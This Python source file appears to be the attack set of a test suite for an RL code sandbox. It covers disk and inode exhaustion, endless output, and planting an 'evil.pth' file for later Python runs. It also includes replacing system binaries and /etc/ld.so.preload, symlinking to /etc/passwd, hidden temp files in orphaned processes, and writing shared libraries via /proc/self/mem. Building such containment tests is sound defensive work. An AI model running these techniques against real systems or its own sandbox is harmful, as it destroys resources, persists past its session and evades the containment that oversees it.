"""Filling the disk, flooding the output, and leaving something behind for the next program."""

from typing import Final

from rl.sandbox.attacks.attack import read_attacks

ATTACKS: Final = read_attacks(
    """
### fill_tmp: more is written to /tmp than allowed, in many files
written = 0
for number in range(40):
    with open(f"/tmp/fill-{number}", "wb") as file:
        written += attempt(lambda: (file.write(bytes(1 << 20)), file.flush())[0]) or 0
    time.sleep(0.01)
if written > 8 << 20:
    won(f"{written >> 20} MiB")

### fill_other_folders: anything is written outside of the program's own folder
own = os.path.realpath(os.environ.get("TMPDIR", "/tmp"))
for folder in ("/", "/dev", "/dev/shm", "/dev/mqueue", "/etc", "/home", "/mnt", "/opt", "/proc", "/root", "/run",
               "/run/lock", "/sys", "/tmp", "/usr", "/usr/bin", "/usr/lib", "/var/tmp", facts["folder"]):
    if os.path.realpath(folder) != own and attempt(lambda: open(f"{folder}/written", "wb").write(b"x")):
        won(f"a file in {folder}")

### one_big_file: one file grows larger than allowed
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
size = 0
with open("big", "wb", 0) as file:
    for _ in range(6):
        size += attempt(file.write, bytes(1 << 20)) or 0
if size > 4 << 20:
    won(f"{size >> 20} MiB")

### sparse_file: a file of a terabyte is made out of nothing
with open("sparse", "wb") as file:
    if attempt(lambda: file.truncate(1 << 40)) or attempt(lambda: os.posix_fallocate(file.fileno(), 0, 1 << 30) is None):
        won("a terabyte")

### many_files: so many files are made that the kernel's own memory fills up
for number in range(30_000):
    try:
        os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY))
    except OSError:
        break
else:
    won("30000 files")

### many_folders: so many folders are made that the kernel's own memory fills up
for number in range(30_000):
    try:
        os.mkdir(str(number))
    except OSError:
        break
else:
    won("30000 folders")

### endless_stdout: more of stdout is kept than allowed, or the writing goes on
while True:
    sys.stdout.write("x" * 65536)

### endless_stderr: more of stderr is kept than allowed, or the writing goes on
while True:
    os.write(2, b"x" * 65536)

### site_packages: a .pth file or a module is left for the next Python to run
import sysconfig
paths = {path for path in [*sys.path, *sysconfig.get_paths().values()] if path}
for path in paths | {os.path.expanduser("~/.local/lib"), "/usr/lib/python3/dist-packages"}:
    if not os.path.realpath(path).startswith(os.path.realpath(os.environ.get("TMPDIR", "/tmp"))):
        if attempt(lambda: open(f"{path}/evil.pth", "w").write("import evil")):
            won(path)

### change_programs: a program or library that later boxes use is replaced
for path in ("/usr/bin/env", "/bin/sh", sys.executable, os.__file__, "/etc/ld.so.cache", "/etc/ld.so.preload", "/program"):
    if attempt(lambda: open(path, "ab")) or attempt(lambda: os.rename("/dev/null", path) or True):
        won(path)
    if attempt(lambda: os.unlink(path) or True) or attempt(lambda: os.chmod(path, 0o4755) or True):
        if path != "/program":
            won(path)

### leave_for_next_run: what one program writes is there for the next
name = f"left-{facts['cookie']}"
folders = ("/tmp", "/dev/shm", "/var/tmp", os.environ.get("HOME", "/tmp"), os.environ.get("TMPDIR", "/tmp"), ".")
if any(os.path.exists(f"{folder}/{name}") for folder in folders):
    won("it is there")
for folder in folders:
    attempt(lambda: open(f"{folder}/{name}", "w").close())

### replace_known_name: a file whose name is known is replaced by a link
attempt(os.unlink, facts["known"])
if attempt(lambda: os.symlink("/etc/passwd", facts["known"]) or True) and not attempt(os.stat, facts["folder"]) is None:
    won("the file is a link now")
attempt(lambda: open(facts["known"], "w").write("changed"))

### removed_files_of_a_headless_process: files without a name, held where nobody looks, fill the disk
import threading
def hold():
    time.sleep(0.1)
    written, held = 0, []
    for _ in range(12):
        held.append(os.open(".", os.O_TMPFILE | os.O_RDWR))
        written += attempt(os.write, held[-1], bytes(2 << 20)) or 0
    time.sleep(0.5)
    if written > 8 << 20:
        won(f"{written >> 20} MiB")
    os._exit(0)
if os.fork() == 0:
    threading.Thread(target=hold).start()
    libc.syscall({"x86_64": 60, "aarch64": 93}[os.uname().machine], 0)
time.sleep(1.2)

### removed_files_of_a_thread: a thread with a table of files of its own fills the disk
import threading
def hold():
    libc.close_range(63, 63, 2)
    written, held = 0, []
    for _ in range(12):
        held.append(os.open(".", os.O_TMPFILE | os.O_RDWR))
        written += attempt(os.write, held[-1], bytes(2 << 20)) or 0
    time.sleep(0.5)
    if written > 8 << 20:
        won(f"{written >> 20} MiB")
threading.Thread(target=hold).start()

### lead_the_watch_astray: a folder becomes a link to / while it is looked at, and the look takes for ever
os.makedirs("a/b/c/d")
for number in range(40):
    os.makedirs(f"a/{number}/y")
while True:
    for change in (os.rename, "a", "t"), (os.symlink, "/", "a"), (os.unlink, "a"), (os.rename, "t", "a"):
        attempt(*change)

### memory_of_programs: a library that all programs share is changed through /proc/self/mem
import mmap
for path in (os.__file__, sys.executable):
    with open(path, "rb") as file:
        shared = mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED)
        before = shared[:4]
        libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        lines = attempt(lambda: list(open("/proc/self/maps"))) or []
        start = next((int(line.split("-")[0], 16) for line in lines if path in line and " r--s" in line), None)
        memory = attempt(os.open, "/proc/self/mem", os.O_RDWR)
        if start and (libc.mprotect(start, 4096, 3) == 0 or memory and attempt(os.pwrite, memory, b"EVIL", start)):
            if shared[:4] != before or open(path, "rb").read(4) != before:
                won(path)

### hold_a_lease: others are kept from opening a file of the system
import fcntl
for path in (sys.executable, os.__file__, "/usr/bin/env"):
    descriptor = attempt(os.open, path, os.O_RDONLY)
    for kind in (fcntl.F_RDLCK, fcntl.F_WRLCK):
        if descriptor is not None and attempt(lambda: fcntl.fcntl(descriptor, 1024, kind) or True):
            won(path)
""",
    leave_for_next_run={"runs": 2},
)
